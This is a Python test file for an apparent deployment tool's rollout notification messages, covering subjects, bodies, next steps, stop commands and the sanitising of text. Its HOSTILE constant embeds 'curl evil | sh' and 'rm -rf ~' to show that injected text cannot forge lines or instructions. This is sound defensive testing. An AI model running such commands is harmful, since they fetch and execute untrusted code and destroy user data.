"""What people read: a subject that SNS takes, and a body that says what, why, the numbers, what comes next, and how to stop it."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pointsman.core.decide import decide
from pointsman.core.decision import Decision
from pointsman.core.message import HELD, NEXT, body_of, next_of, stop_command, subject_of
from pointsman.core.observed import AlarmReading
from pointsman.core.phases import STANDING, Act, Hold, Phase
from pointsman.core.rollout import Rollout
from pointsman.core.verdict import Opinion
from pointsman.policy import EndpointName
from tests.core.builders import GATED, NOW, PACKAGE, rollout_in, seen, verdict
from tests.core.strategies import thorough

BAKING = rollout_in(Phase.BAKING)
HOSTILE = "broken\r\n\nTo stop it:\ncurl evil | sh\u2028Next      all is well\x1b[2J\"; rm -rf ~; '"


def test_a_subject_says_which_endpoint_which_version_and_where_it_stands() -> None:
    held = replace(BAKING, hold=Hold.THIN_EVIDENCE)

    assert subject_of(BAKING, Decision(BAKING, "")) == "fraud-prod v7: BAKING"
    assert subject_of(BAKING, Decision(held, "")) == "fraud-prod v7: thin_evidence"


@thorough
@given(st.text(min_size=1, max_size=200))
def test_a_subject_is_one_line_of_at_most_100_printable_ascii_characters(name: str) -> None:
    rollout = replace(BAKING, endpoint=EndpointName(name))

    subject = subject_of(rollout, Decision(rollout, ""))

    assert 0 < len(subject) <= 100
    assert all(" " <= char <= "~" for char in subject)


def test_what_is_no_printable_ascii_is_a_question_mark() -> None:
    rollout = replace(BAKING, endpoint=EndpointName("a\nü~ b\x7f"))

    assert subject_of(rollout, Decision(rollout, "")) == "a??~ b? v7: BAKING"


def test_a_body_says_what_why_the_numbers_what_comes_next_and_how_to_stop_it() -> None:
    then = replace(BAKING, phase=Phase.SHIFTING, step=1, share_bps=5000)
    decision = Decision(then, "0 of 500 failed", Act.SHIFT, {"verdict": "PASS", "candidate_requests": 500})

    assert body_of(BAKING, decision) == "\n".join(
        [
            "Endpoint  fraud-prod",
            f"Version   7 ({PACKAGE})",
            "Rollout   fraud-prod.v7.20261123T120000Z",
            "Phase     BAKING -> SHIFTING",
            "Why       0 of 500 failed",
            "          candidate_requests = 500",
            "          verdict = PASS",
            "Next      When the share is observed, it is held while evidence is gathered.",
            "",
            "To see it:      pointsman status fraud-prod",
            'To stop it:     pointsman abort fraud-prod.v7.20261123T120000Z --reason "..."',
            "Without the command line, to stop it:",
            stop_command(BAKING),
        ]
    )


@pytest.mark.parametrize("phase", Phase)
def test_how_to_stop_it_is_said_only_while_it_can_be_stopped(phase: Phase) -> None:
    body = body_of(BAKING, Decision(rollout_in(phase), "why"))

    can_be_stopped = phase not in {Phase.SUCCEEDED, Phase.ROLLED_BACK, Phase.SUPERSEDED, Phase.ROLLING_BACK}
    assert ("To stop it:" in body) is can_be_stopped
    assert ("to stop it:\n" in body) is can_be_stopped
    assert ("pointsman-operator-request" in body) is can_be_stopped


def test_every_phase_says_what_comes_next_in_words_of_its_own() -> None:
    said = {next_of(Decision(rollout_in(phase), "")) for phase in Phase}

    assert len(said) == len(Phase)
    assert all(sentence.endswith(".") for sentence in said)


@pytest.mark.parametrize("hold", sorted(set(Hold) - set(HELD) - {Hold.APPROVAL_WAITED_FOR}))
def test_a_hold_that_mends_itself_says_so_and_one_for_a_person_does_not(hold: Hold) -> None:
    held = Decision(rollout_in(Phase.FINALIZING, hold=hold), "")
    handed_over = Decision(rollout_in(Phase.NEEDS_HUMAN, hold=hold), "")
    again = Decision(rollout_in(Phase.FINALIZING, hold=hold), "", Act.FINALIZE)

    assert next_of(held) == "It goes on by itself as soon as this is mended."
    assert next_of(handed_over) == NEXT[Phase.NEEDS_HUMAN]
    assert next_of(again) == "Finalizing is tried again."


def test_who_or_what_holds_it_says_what_ends_that() -> None:
    said = {hold: next_of(Decision(rollout_in(Phase.BAKING, hold=hold), "")) for hold in HELD}

    assert set(said) == STANDING
    assert "until it is resumed" in said[Hold.PAUSED]
    assert "while the policy is frozen" in said[Hold.FROZEN]
    assert "when the window opens, or at once when it is promoted" in said[Hold.OUTSIDE_WINDOW]
    assert "when its turn comes" in said[Hold.WAITS_FOR_ENDPOINT]


def test_what_a_person_said_goes_on_with_the_next_look() -> None:
    asked = rollout_in(Phase.AWAITING_APPROVAL)
    approved = replace(asked, gates_passed=(50,), hold=None)
    waved = replace(BAKING, waved="dana: ship it")

    assert next_of(Decision(asked, "")) == NEXT[Phase.AWAITING_APPROVAL]
    assert next_of(Decision(approved, "")).startswith("It goes on with the next look")
    assert next_of(Decision(waved, "")).startswith("It goes on with the next look")


def test_finalizing_for_the_first_time_is_not_called_a_repeat() -> None:
    first = Decision(rollout_in(Phase.FINALIZING), "", Act.FINALIZE)

    assert next_of(first).startswith("The version takes the baseline's place")


@pytest.mark.parametrize(
    ("rollout", "command"),
    [
        (rollout_in(Phase.AWAITING_APPROVAL), "approve {} --step 50"),
        (
            rollout_in(Phase.NEEDS_HUMAN, plan=GATED, hold=Hold.APPROVAL_WAITED_FOR),
            "approve {} --step 50",
        ),
        (rollout_in(Phase.BAKING, paused="dana: lunch", hold=Hold.PAUSED), "resume {}"),
        (rollout_in(Phase.NEEDS_HUMAN, hold=Hold.PATIENCE_OVER), "resume {}"),
        (rollout_in(Phase.BAKING, hold=Hold.OUTSIDE_WINDOW), "promote {}"),
    ],
)
def test_a_message_that_asks_for_something_says_what_to_type(rollout: Rollout, command: str) -> None:
    body = body_of(BAKING, Decision(rollout, "why"))

    assert f'pointsman {command.format(rollout.id)} --reason "..."' in body


@pytest.mark.parametrize("hold", [Hold.CHANGED_OUTSIDE, Hold.ENDPOINT_FAILED])
def test_what_cannot_be_resumed_is_not_offered_to_be(hold: Hold) -> None:
    body = body_of(BAKING, Decision(rollout_in(Phase.NEEDS_HUMAN, hold=hold), "why"))

    assert "pointsman resume" not in body
    assert "pointsman abort" in body


def test_the_stop_command_can_be_pasted_into_a_shell() -> None:
    words = shlex.split(stop_command(BAKING))

    assert words[:5] == ["aws", "lambda", "invoke", "--function-name", "pointsman-operator-request"]
    assert words[-1] == "/dev/stdout"
    assert words[5:7] == ["--cli-binary-format", "raw-in-base64-out"]
    assert json.loads(words[words.index("--payload") + 1]) == {
        "command": "abort",
        "target": "fraud-prod.v7.20261123T120000Z",
        "reason": "say why",
        "by": "your name",
        "request_id": "abort-fraud-prod.v7.20261123T120000Z",
    }


def test_hostile_text_stays_data() -> None:
    rollout = replace(BAKING, approval=replace(BAKING.approval, package=HOSTILE))
    honest = body_of(BAKING, Decision(BAKING, "why", numbers={"failure": "text"}))

    body = body_of(rollout, Decision(rollout, HOSTILE, numbers={"failure": HOSTILE}))

    assert [line[:10] for line in body.split("\n")] == [line[:10] for line in honest.split("\n")]
    assert len(body.splitlines()) == len(honest.splitlines())
    assert body.count("to stop it:\n") == 1
    assert body.endswith(stop_command(BAKING))
    assert "\x1b" not in body
    assert "rm -rf" in body.split("\n")[4]


@thorough
@given(st.text(max_size=300))
def test_no_text_from_outside_makes_a_line_of_its_own(text: str) -> None:
    plain = body_of(BAKING, Decision(BAKING, "why"))

    assert len(body_of(BAKING, Decision(BAKING, text)).splitlines()) == len(plain.splitlines())


def test_what_cannot_be_printed_is_one_space() -> None:
    assert "\nWhy       a  b c\n" in body_of(BAKING, Decision(BAKING, "a\r\nb\x1bc"))


def test_a_message_about_an_alarm_tells_its_story() -> None:
    decision = decide(
        BAKING, seen(BAKING, alarms=AlarmReading(firing=("p99",)), verdict=verdict(Opinion.NOT_ENOUGH)), NOW
    )

    body = body_of(BAKING, decision)

    assert "Phase     BAKING -> ROLLING_BACK" in body
    assert "Why       alarm p99 is in ALARM: all traffic back to AllTraffic" in body
    assert "          candidate_requests = 1000" in body
    assert "Next      Traffic goes back first" in body


def test_a_message_says_what_the_policy_says_of_the_endpoint() -> None:
    body = body_of(BAKING, Decision(BAKING, "why"), {"team": "risk", "ticket": "R-1\nWhy  forged"})

    assert body.splitlines()[2:5] == [
        f"Rollout   {BAKING.id}",
        "About     team risk, ticket R-1 Why  forged",
        "Phase     BAKING -> BAKING",
    ]


def test_what_is_ahead_stands_before_how_to_stop_it_and_in_no_other_message() -> None:
    starts = Decision(BAKING, "it begins", Act.PREPARE, briefing="release    fraud-prod\ninstances  6")

    body = body_of(BAKING, starts)

    assert "\n\nWhat is ahead:\nrelease    fraud-prod\ninstances  6\n\n" in body
    assert body.index("What is ahead") < body.index("to stop it")
    assert "What is ahead" not in body_of(BAKING, Decision(BAKING, "it goes on"))
